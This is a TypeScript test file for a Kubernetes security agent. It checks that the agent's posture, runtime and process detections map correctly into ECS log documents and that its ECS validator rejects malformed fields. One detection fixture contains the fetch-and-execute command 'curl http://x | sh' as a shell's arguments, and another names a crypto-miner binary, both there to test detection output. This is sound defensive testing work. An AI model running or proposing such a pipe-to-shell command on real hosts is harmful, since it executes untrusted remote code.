// Every kind of nodewarden event becomes an ECS 9.4.0 document that the ECS field definitions
// accept, with its facts where ECS puts them; and the validator itself catches what it must.
import t from 'tap';
import Long from 'long';
import { toEcs } from '../../../central/formats/ecs.js';
import type { SinkEvent } from '../../../central/sinks/sink.js';
import type { HostFacts } from '../../../core/host-facts.js';
import { nodewarden } from '../../../gen/nodewarden.js';
import { makeEvent, type EventSpec } from '../../helpers/event-log-fixtures.js';
import { validateEcs } from '../../helpers/ecs-validate.js';

const pb = nodewarden.v1;
const T = Date.UTC(2025, 5, 15, 10, 30, 0, 123);

const facts: HostFacts = {
  hostname: 'worker-1.internal',
  os: { name: 'Debian GNU/Linux', version: '12', family: 'debian', platform: 'linux' },
  kernel: '6.1.0-18-amd64',
  architecture: 'x86_64',
  bootTime: T - 3_600_000,
  containerRuntime: 'containerd 1.7.2',
};

/** A stored event: makeEvent's, decoded, with the extra fields set (as an agent would send them). */
function sinkEvent(seq: number, spec: EventSpec, extra: nodewarden.v1.Event.$Properties = {}, host?: HostFacts): SinkEvent {
  const base = pb.Event.decode(makeEvent('worker-1-ab12', seq, { timeMs: T, node: 'worker-1', ...spec }).bytes);
  const bytes = Buffer.from(pb.Event.encode(Object.assign(base, extra)).finish());
  return { rowid: seq, event: pb.Event.decode(bytes), bytes, host };
}

const ctx = { namespace: 'kube-system', pod: 'kube-proxy-x7k2p', podUid: '6f1c9a52-5d1e-4d0a-9a57-1b0e3f7c2d11', container: 'kube-proxy' };
const ctr = {
  id: '3b8e1f2a9c4d', name: 'kube-proxy', image: 'registry.k8s.io/kube-proxy:v1.30.2',
  imageDigest: 'registry.k8s.io/kube-proxy@sha256:8a2f0b1c3d4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7f8091a2b3c4d5e6f7',
  runtime: 'containerd 1.7.2', state: 'running', pid: 4242, privileged: true, sandboxId: 'c0ffee',
};

const events: Record<string, SinkEvent> = {
  'an open posture finding on a file': sinkEvent(1, { source: pb.Source.SOURCE_POSTURE, ruleId: 'cis-4.1.1', state: pb.FindingState.FINDING_STATE_OPEN, severity: pb.Severity.SEVERITY_HIGH }, {
    title: 'Ensure that the kubelet service file permissions are set to 600 or more restrictive',
    message: 'The kubelet unit is mode 644; expected 600 or stricter.', cisId: '4.1.1', evidence: 'mode 644', expected: '600 or more restrictive',
    remediation: 'chmod 600 /etc/systemd/system/kubelet.service.d/10-kubeadm.conf', tags: ['posture', 'kubelet', 'cis', 'status:fail'], cluster: 'prod', agentVersion: '0.1.0',
    file: { path: '/etc/systemd/system/kubelet.service.d/10-kubeadm.conf', mode: 0o644, uid: 0, gid: 0, exists: true, kind: 'file' },
  }, facts),
  'a resolved posture finding': sinkEvent(2, { source: pb.Source.SOURCE_POSTURE, ruleId: 'cis-4.2.1', state: pb.FindingState.FINDING_STATE_RESOLVED }, { cisId: '4.2.1', cluster: 'prod' }, facts),
  'a posture finding on a missing file': sinkEvent(3, { source: pb.Source.SOURCE_POSTURE, ruleId: 'cis-4.1.5', state: pb.FindingState.FINDING_STATE_OPEN }, {
    file: { path: '/etc/kubernetes/kubelet.conf', exists: false },
  }),
  'an open runtime finding on a container': sinkEvent(4, { source: pb.Source.SOURCE_RUNTIME, ruleId: 'runtime.privileged-container', state: pb.FindingState.FINDING_STATE_OPEN, namespace: 'kube-system' }, {
    kubernetes: ctx, container: ctr, mitreTechniques: ['T1610', 'T1564'], attributes: { node: 'worker-1', 'allow.listed': 'true' },
  }, facts),
  'a runtime availability finding': sinkEvent(5, { source: pb.Source.SOURCE_RUNTIME, ruleId: 'runtime.unavailable', state: pb.FindingState.FINDING_STATE_OPEN, severity: pb.Severity.SEVERITY_CRITICAL }, {
    attributes: { socket: '/run/containerd/containerd.sock' },
  }),
  'a process detection': sinkEvent(6, { source: pb.Source.SOURCE_PROCESS, ruleId: 'exec-shell-in-container', severity: pb.Severity.SEVERITY_MEDIUM, namespace: 'kube-system' }, {
    title: 'A shell started in a container', message: 'sh ran in kube-system/kube-proxy-x7k2p (kube-proxy).',
    mitreTechniques: ['T1059.004', 'T1059'], count: 3, kubernetes: ctx, container: ctr,
    process: {
      pid: 31337, ppid: 4242, uid: 1000, euid: 0, gid: 1000, egid: 0, auid: 1001, exe: '/bin/sh', comm: 'sh',
      argv: ['sh', '-c', 'curl http://x | sh'], argvTruncated: false, cwd: '/', startTimeUnixNano: Long.fromNumber(T).multiply(1_000_000),
      ancestors: [{ pid: 4242, exe: '/usr/local/bin/kube-proxy', comm: 'kube-proxy', argv: ['kube-proxy', '--config=/var/lib/kube-proxy/config.conf'] }, { pid: 4200, exe: '/pause', comm: 'pause', argv: ['/pause'] }],
      capture: 'audit',
    },
  }, facts),
  'a process detection without a parent or login uid': sinkEvent(7, { source: pb.Source.SOURCE_PROCESS, ruleId: 'exec-crypto-miner', severity: pb.Severity.SEVERITY_CRITICAL }, {
    mitreTechniques: ['T1496'], process: { pid: 9, exe: '/tmp/xmrig', argv: [], auid: 4294967295, capture: 'poller' },
  }),
  'an agent event': sinkEvent(8, { source: pb.Source.SOURCE_AGENT, ruleId: 'agent-exec-events-lost', severity: pb.Severity.SEVERITY_HIGH }, { evidence: 'lost 12' }),
  "central's own event": sinkEvent(9, { source: pb.Source.SOURCE_CENTRAL, ruleId: 'central-retention-dropped-undelivered' }, { tags: ['retention', 'data-loss'], attributes: { sink: 'elastic' } }),
  'a Kubernetes API event': sinkEvent(10, { source: pb.Source.SOURCE_KUBE, ruleId: 'kube-anonymous-binding', state: pb.FindingState.FINDING_STATE_OPEN }),
  'a hidden container with its pod context from the API server': sinkEvent(12, { source: pb.Source.SOURCE_KUBE, ruleId: 'kube.image-mismatch', state: pb.FindingState.FINDING_STATE_OPEN, namespace: 'kube-system' }, {
    kubernetes: { ...ctx, workloadKind: 'DaemonSet', workloadName: 'kube-proxy', serviceAccount: 'kube-proxy', labels: { 'k8s-app': 'kube-proxy' } }, container: ctr,
  }, facts),
  'an event with nothing but its header': sinkEvent(11, { source: pb.Source.SOURCE_UNSPECIFIED, severity: pb.Severity.SEVERITY_UNSPECIFIED }),
};

const doc = (name: string): Record<string, any> => toEcs(events[name]!, { version: '0.9.9' }) as Record<string, any>;

for (const name of Object.keys(events)) {
  t.test(`${name} is a valid ECS 9.4.0 document`, async (t) => {
    t.same(validateEcs(doc(name)), [], 'no ECS violations');
  });
}

t.test('the pod context from the API server: the workload kind as orchestrator.resource.parent.type, the rest under nodewarden.kubernetes', async (t) => {
  const d = doc('a hidden container with its pod context from the API server');
  t.same(d.orchestrator.resource.parent, { type: 'DaemonSet' });
  t.same(d.nodewarden.kubernetes, { workload: { kind: 'DaemonSet', name: 'kube-proxy' }, service_account: 'kube-proxy', labels: { 'k8s-app': 'kube-proxy' } });
  t.equal(doc('a process detection').nodewarden.kubernetes, undefined, 'absent without it');
});

t.test('every document names its version, time, id, dataset and rule', async (t) => {
  const d = doc('an open posture finding on a file');
  t.equal(d['@timestamp'], '2025-06-15T10:30:00.123Z');
  t.equal(d.ecs.version, '9.4.0');
  t.equal(d.message, 'The kubelet unit is mode 644; expected 600 or stricter.');
  t.match(d.event, { id: 'worker-1-ab12/1', sequence: 1, dataset: 'nodewarden.posture', module: 'nodewarden', provider: 'posture', action: 'cis-4.1.1', severity: 4, risk_score: 73 });
  t.match(d.rule, { id: 'cis-4.1.1', name: 'cis-4.1.1', ruleset: 'CIS Kubernetes Benchmark', category: 'Node posture', version: '0.1.0' });
  t.match(d.agent, { type: 'nodewarden', id: 'worker-1-ab12', version: '0.1.0' });
  t.same(d.tags, ['posture', 'kubelet', 'cis', 'status:fail']);
});

t.test('open findings and detections are alerts; a resolution is a plain event of type change', async (t) => {
  t.match(doc('an open posture finding on a file').event, { kind: 'alert', category: ['configuration', 'file'], type: ['info'] });
  t.match(doc('a resolved posture finding').event, { kind: 'event', category: ['configuration'], type: ['change'] });
  t.match(doc('a process detection').event, { kind: 'alert', category: ['process', 'intrusion_detection'], type: ['start', 'info'] });
  t.match(doc('a runtime availability finding').event, { category: ['host'] });
  t.match(doc('an open runtime finding on a container').event, { category: ['configuration'] });
  t.equal(doc('an open posture finding on a file').event.outcome, undefined, 'no outcome for info events');
});

t.test('host facts fill host.*; without them only the node name is known', async (t) => {
  t.same(doc('an open posture finding on a file').host, {
    name: 'worker-1', hostname: 'worker-1.internal', architecture: 'x86_64', uptime: 3600,
    os: { name: 'Debian GNU/Linux', version: '12', family: 'debian', platform: 'linux', kernel: '6.1.0-18-amd64', type: 'linux' },
  });
  t.same(doc('a runtime availability finding').host, { name: 'worker-1' });
});

t.test('a posture file has an octal mode and string owners; a missing file has neither', async (t) => {
  t.same(doc('an open posture finding on a file').file, {
    path: '/etc/systemd/system/kubelet.service.d/10-kubeadm.conf', name: '10-kubeadm.conf', directory: '/etc/systemd/system/kubelet.service.d',
    type: 'file', mode: '0644', uid: '0', gid: '0',
  });
  t.same(doc('a posture finding on a missing file').file, { path: '/etc/kubernetes/kubelet.conf', name: 'kubelet.conf', directory: '/etc/kubernetes' });
  t.match(doc('a posture finding on a missing file').nodewarden.file, { exists: false });
});

t.test('a pod and its container map to orchestrator.* and container.*', async (t) => {
  const d = doc('an open runtime finding on a container');
  t.same(d.orchestrator, { type: 'kubernetes', namespace: 'kube-system', resource: { type: 'pod', name: 'kube-proxy-x7k2p', id: '6f1c9a52-5d1e-4d0a-9a57-1b0e3f7c2d11' } });
  t.same(d.container, {
    id: '3b8e1f2a9c4d', name: 'kube-proxy', runtime: 'containerd', security_context: { privileged: true },
    image: { name: 'registry.k8s.io/kube-proxy:v1.30.2', hash: { all: ['sha256:8a2f0b1c3d4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7f8091a2b3c4d5e6f7'] } },
  });
  t.same(d.labels, { node: 'worker-1', allow_listed: 'true' }, 'attribute keys lose their dots');
  t.equal(doc('a posture finding on a missing file').orchestrator.cluster, undefined);
  t.same(doc('a resolved posture finding').orchestrator, { type: 'kubernetes', cluster: { name: 'prod' } });
});

t.test('an exec maps to process.* with effective and real users and its parent', async (t) => {
  const d = doc('a process detection');
  t.same(d.process, {
    pid: 31337, executable: '/bin/sh', name: 'sh', args: ['sh', '-c', 'curl http://x | sh'], args_count: 3,
    command_line: 'sh -c curl http://x | sh', working_directory: '/',
    user: { id: '0' }, real_user: { id: '1000' }, group: { id: '0' }, real_group: { id: '1000' },
    start: '2025-06-15T10:30:00.123Z',
    parent: { pid: 4242, executable: '/usr/local/bin/kube-proxy', name: 'kube-proxy', args: ['kube-proxy', '--config=/var/lib/kube-proxy/config.conf'], args_count: 2, command_line: 'kube-proxy --config=/var/lib/kube-proxy/config.conf' },
  });
  t.match(d.nodewarden, { count: 3, process: { capture: 'audit', login_user_id: '1001', ancestors: [{ pid: 4242 }, { pid: 4200, executable: '/pause' }] } });
  const bare = doc('a process detection without a parent or login uid');
  t.same(bare.process, { pid: 9, executable: '/tmp/xmrig', name: 'xmrig', args_count: 0, user: { id: '0' }, real_user: { id: '0' }, group: { id: '0' }, real_group: { id: '0' } });
  t.equal(bare.nodewarden.process.login_user_id, undefined, 'an unset audit uid is left out');
});

t.test('ATT&CK ids split into techniques and sub-techniques with their references', async (t) => {
  t.same(doc('a process detection').threat, {
    framework: 'MITRE ATT&CK',
    technique: {
      id: ['T1059'], reference: ['https://attack.mitre.org/techniques/T1059/'],
      subtechnique: { id: ['T1059.004'], reference: ['https://attack.mitre.org/techniques/T1059/004/'] },
    },
  });
  t.equal(doc('an agent event').threat, undefined);
});

t.test('what ECS has no field for is under nodewarden.*', async (t) => {
  t.same(doc('an open posture finding on a file').nodewarden, {
    severity: 'high', state: 'open', fingerprint: 'fp-1', cis_id: '4.1.1', evidence: 'mode 644', expected: '600 or more restrictive',
    remediation: 'chmod 600 /etc/systemd/system/kubelet.service.d/10-kubeadm.conf', count: 1, file: { exists: true, kind: 'file' },
  });
});

t.test('the version falls back to central\'s for events without an agent version', async (t) => {
  t.equal(doc('an agent event').rule.version, '0.9.9');
  t.equal(doc('an agent event').agent.version, '0.9.9');
});

t.test('the validator refuses a field ECS does not define', async (t) => {
  const d = doc('a process detection');
  d.process.favourite_colour = 'blue';
  d.kubernetes = { pod: 'x' };
  const errors = validateEcs(d);
  t.ok(errors.includes('process.favourite_colour: not an ECS field'), errors.join('\n'));
  t.ok(errors.includes('kubernetes.pod: not an ECS field'), errors.join('\n'));
});

t.test('the validator refuses a category and type ECS does not pair', async (t) => {
  const d = doc('an open posture finding on a file');
  d.event.category = ['configuration'];
  d.event.type = ['start'];
  t.same(validateEcs(d), [
    'event.type: start is not expected for event.category configuration',
    'event.category: configuration expects one of the types access, change, creation, deletion, info, got start',
  ]);
});

t.test('the validator refuses values outside allowed lists, wrong types and wrong array-ness', async (t) => {
  const d = doc('a process detection');
  d.event.kind = 'finding';
  d.event.severity = 'high';
  d.process.pid = '31337';
  d.event.category = 'process';
  d['@timestamp'] = 1750000000;
  d.labels = { 'a.b': 'c' };
  const errors = validateEcs(d);
  for (const want of [
    'event.kind: "finding" is not one of alert, asset, enrichment, event, metric, state, pipeline_error, signal',
    'event.severity: long expects an integer, got the string "high"',
    'process.pid: long expects an integer, got the string "31337"',
    'event.category: ECS defines an array, got a single value',
    '@timestamp: date expects an ISO 8601 string, got 1750000000',
    'labels.a.b: label keys must not contain dots',
  ]) t.ok(errors.includes(want), `${want}\n  in: ${errors.join('\n  ')}`);
});

t.test('the validator requires @timestamp and ecs.version', async (t) => {
  const errors = validateEcs({ message: 'x' });
  t.ok(errors.includes('@timestamp: required by ECS, missing'));
  t.ok(errors.includes('ecs.version: required by ECS, missing'));
});
